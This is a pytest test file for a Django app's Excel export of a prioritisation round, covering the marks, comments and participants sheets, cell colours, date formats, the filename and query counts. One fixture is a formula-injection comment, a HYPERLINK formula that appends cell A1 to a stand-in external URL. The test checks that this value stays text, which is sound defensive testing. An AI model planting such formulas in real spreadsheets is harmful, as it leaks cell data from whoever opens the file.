"""A prioritisation round as a workbook: the marks, the comments, who has marked."""

import io
from datetime import datetime, time

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from activities import services as plans
from prioritisation import services
from prioritisation.models import Round
from prioritisation.services import MarkInput
from prioritisation.spreadsheets import HEADER_ROW, round_export_filename, round_workbook

from .builders import PLAN_YEAR, round_build, setting_build

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.test/?"&A1,"Klicka")'
VFU = "Verksamhetsförlagd utbildning (VFU)"


def _mark(round_: Round, name: str, user, marks: list[MarkInput]) -> None:
    voter = round_.voters.get(name=name)
    services.marks_save(round_id=round_.pk, voter_id=voter.pk, user=user, marks=marks)


@pytest.fixture
def setting(world):
    return setting_build(world, per_area=2)


@pytest.fixture
def marked(world, setting):
    """Three voters on VFU 1, VFU 2, Fortbildning 1 and 2: the chair marked VFU 1 green and
    Fortbildning 1 yellow with a formula-like comment, the member VFU 1 red with a comment
    and a move, the co-opted member VFU 2 "vet ej"; VFU 1 is decided green; all reminded."""
    round_ = round_build(setting.plan, user=world.users["secretariat"])
    vfu_1, vfu_2 = setting.vfu_activities
    fortbildning_1 = setting.fortbildning_activities[0]
    _mark(round_, "Olga Ordförande", setting.chair, [
        MarkInput(vfu_1.pk, "green"), MarkInput(fortbildning_1.pk, "yellow", FORMULA),
    ])  # fmt: skip
    _mark(round_, "Maja Ledamot", world.users["member"], [
        MarkInput(vfu_1.pk, "red", "För dyrt i år", setting.fortbildning.pk),
    ])  # fmt: skip
    _mark(round_, "Ada Adjungerad", setting.coopted, [MarkInput(vfu_2.pk, "unknown")])
    services.decision_make(
        round_id=round_.pk, activity_id=vfu_1.pk, priority="green", expected_version=0,
        user=setting.chair,
    )  # fmt: skip
    services.reminders_send(round_id=round_.pk, user=world.users["secretariat"])
    return Round.objects.get(pk=round_.pk)


def _read(round_: Round) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(round_workbook(round_)))


def _day(moment) -> datetime:
    """A date as its cell reads back: the local day, at midnight."""
    return datetime.combine(timezone.localtime(moment).date(), time())


def _minute(moment) -> datetime:
    return timezone.localtime(moment).replace(tzinfo=None, second=0, microsecond=0)


def _rows(sheet, start: int = 1) -> list[list]:
    return [list(row) for row in sheet.iter_rows(min_row=start, values_only=True)]


def test_the_workbook_has_three_sheets_and_the_round_on_top(marked):
    workbook = _read(marked)
    assert workbook.sheetnames == ["Markeringar", "Kommentarer", "Deltagare"]
    assert workbook.properties.title == "Vårens prioritering"
    assert workbook.properties.subject == f"Mellansverige {PLAN_YEAR}"
    sheet = workbook["Markeringar"]
    assert [row[:2] for row in _rows(sheet)[: HEADER_ROW - 1]] == [
        ["Vårens prioritering", None],
        ["Aktivitetsplan", f"Mellansverige {PLAN_YEAR}"],
        ["Stänger", _minute(marked.closes_at)],
        [None, None],
    ]
    assert sheet.freeze_panes == f"C{HEADER_ROW + 1}"


def test_a_closed_round_says_when_it_closed(marked, world):
    closed = services.round_close(round_id=marked.pk, user=world.users["secretariat"])
    sheet = _read(Round.objects.get(pk=closed.pk))["Markeringar"]
    assert [sheet["A3"].value, sheet["B3"].value] == ["Stängd", _minute(closed.closed_at)]


def test_the_marks_sheet_has_a_column_per_voter_and_a_row_per_activity(marked):
    sheet = _read(marked)["Markeringar"]
    header, *rows = _rows(sheet, HEADER_ROW)
    assert header == [
        "Fokusområde", "Aktivitet", "Ada Adjungerad", "Maja Ledamot", "Olga Ordförande",
        "Grön", "Gul", "Röd", "Vet ej", "Samstämmighet", "Beslut", "Beslutad av", "Beslutad",
    ]  # fmt: skip
    decided = _day(marked.decisions.get().decided_at)
    assert rows == [
        [VFU, "VFU 1", None, "Röd", "Grön", 1, 0, 1, 0, "Delade meningar", "Grön",
         "Olga Ordförande", decided],
        [VFU, "VFU 2", "Vet ej", None, None, 0, 0, 0, 1, "Inga markeringar", None, None, None],
        ["Fortbildning", "Fortbildning 1", None, None, "Gul", 0, 1, 0, 0, "Alla eniga", None,
         None, None],
        ["Fortbildning", "Fortbildning 2", None, None, None, 0, 0, 0, 0, "Inga markeringar",
         None, None, None],
    ]  # fmt: skip
    assert sheet.cell(HEADER_ROW + 1, len(header)).number_format == "yyyy-mm-dd"


def test_each_mark_and_the_decision_is_in_its_colour(marked):
    sheet = _read(marked)["Markeringar"]
    vfu_1, vfu_2 = HEADER_ROW + 1, HEADER_ROW + 2
    assert sheet.cell(vfu_1, 4).fill.start_color.rgb.endswith("B02A37")  # red
    assert sheet.cell(vfu_1, 5).fill.start_color.rgb.endswith("146C43")  # green
    assert sheet.cell(vfu_1, 11).fill.start_color.rgb.endswith("146C43")  # decided green
    assert sheet.cell(vfu_2, 3).fill.fill_type is None  # "vet ej" stays white


def test_the_comments_sheet_has_the_comments_and_the_moves(marked):
    assert _rows(_read(marked)["Kommentarer"]) == [
        ["Fokusområde", "Aktivitet", "Deltagare", "Markering", "Kommentar",
         "Förslag: flytta till"],
        [VFU, "VFU 1", "Maja Ledamot", "Röd", "För dyrt i år", "Fortbildning"],
        ["Fortbildning", "Fortbildning 1", "Olga Ordförande", "Gul", FORMULA, None],
    ]  # fmt: skip


def test_a_comment_that_looks_like_a_formula_stays_text(marked):
    cell = _read(marked)["Kommentarer"]["E3"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_the_participants_sheet_has_how_much_each_marked_and_when_reminded(marked):
    sheet = _read(marked)["Deltagare"]
    reminded = {voter.name: _day(voter.reminded_at) for voter in marked.voters.all()}
    assert _rows(sheet) == [
        ["Deltagare", "Markerade", "Av totalt", "Påmind"],
        ["Ada Adjungerad", 1, 4, reminded["Ada Adjungerad"]],
        ["Maja Ledamot", 1, 4, reminded["Maja Ledamot"]],
        ["Olga Ordförande", 2, 4, reminded["Olga Ordförande"]],
    ]
    assert sheet["D2"].number_format == "yyyy-mm-dd"


def test_the_filename_is_an_ascii_slug_with_the_plan_and_the_round(marked):
    expected = f"prioritering-mellansverige-{PLAN_YEAR}-{marked.pk}.xlsx"
    assert round_export_filename(marked) == expected


def _marked_and_decided(round_: Round, setting, activities) -> None:
    _mark(round_, "Olga Ordförande", setting.chair,
          [MarkInput(activity.pk, "green", "Bra") for activity in activities])  # fmt: skip
    for activity in activities:
        services.decision_make(
            round_id=round_.pk, activity_id=activity.pk, priority="yellow", expected_version=0,
            user=setting.chair,
        )  # fmt: skip


def _queries(round_id: int) -> int:
    round_ = Round.objects.get(pk=round_id)
    with CaptureQueriesContext(connection) as context:
        round_workbook(round_)
    return len(context)


def test_the_workbook_takes_as_many_queries_for_many_activities_as_for_few(world, setting):
    round_ = round_build(setting.plan, user=world.users["secretariat"])
    _marked_and_decided(round_, setting, setting.activities)
    few = _queries(round_.pk)
    more = [
        plans.activity_create(plan=setting.plan, focus_area=setting.vfu, title=f"Ny {n}")
        for n in range(10)
    ]
    _marked_and_decided(round_, setting, more)
    assert _queries(round_.pk) == few
